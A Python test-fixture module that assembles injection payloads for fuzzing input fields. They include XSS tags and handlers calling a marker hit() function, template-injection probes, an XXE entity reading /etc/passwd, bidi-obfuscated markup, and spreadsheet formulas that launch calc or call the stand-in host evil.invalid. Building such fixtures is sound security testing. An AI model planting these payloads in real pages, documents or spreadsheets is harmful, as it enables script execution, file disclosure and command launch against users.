"""What hostile people type: markup that would call ``hit()``, formulas, odd letters.

Every text is short enough for the shortest field, so that one list serves all of them.
"""

from __future__ import annotations

from itertools import product

LONGEST = 62  # with a number behind it still fits a name
_RUNS = (
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<script>hit()</script>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<iframe srcdoc='<img src=x onerror=parent.hit()>'>",
    "<iframe src=javascript:parent.hit()>",
    "<a href=javascript:hit() autofocus onfocus=hit()>x</a>",
    "<input autofocus onfocus=hit()>",
    "<video src=x onerror=hit()>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<math><mi xlink:href=javascript:hit()>x",
    "<style>@import'x'</style><b onclick=hit()>",
    "<form><button formaction=javascript:hit()>x",
    "<marquee onstart=hit()>x</marquee>",
    "<meta http-equiv=refresh content=0;url=javascript:hit()>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid>",
    "<ci-mount onclick=hit()>",
)
# What stands before a payload to get out of what it was put into.
_OUT = ("", '">', "'>", "</script>", "</textarea>", "-->", "]]>", "</title>", "\\u003c/script>")
_OTHERS = (
    "[x](javascript:hit())",
    "![x](javascript:hit())",
    "[x]: javascript:hit()",
    "<javascript:hit()>",
    "$\\href{javascript:hit()}{x}$",
    "$$\\unicode{<img src=x onerror=hit()>}$$",
    "```mermaid\ngraph TD;A-->B;click A hit\n```",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    "{% print(7*191) %}",
    "{{ 7*191 }}",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    '" onmouseover="hit()',
    "' onfocus='hit()' autofocus='",
    "` onclick=`hit()`",
    "\" style=\"background:url('//evil.invalid')",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "\u202e)(tih=daolno gvs<\u202c",
    "\u2066<svg onload=hit()>\u2069",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}hit()",
    '#import "/etc/passwd": *',
    "#panic(hit)",
    '#read("/etc/passwd")',
    "__proto__",
    "constructor",
    "</w:t></w:r><w:hyperlink r:id='x'>",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
)
# What a spreadsheet program would run.
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.invalid","x")',
    '=IMPORTXML("http://evil.invalid","//a")',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}x",
    "%0A=1+1",
    ";=1+1",
)
_MARKUP = (f"{out}{run}" for out, run in product(_OUT, _RUNS))
PAYLOADS = tuple(one for one in (*_OTHERS, *_MARKUP, *FORMULAS) if len(one) <= LONGEST)
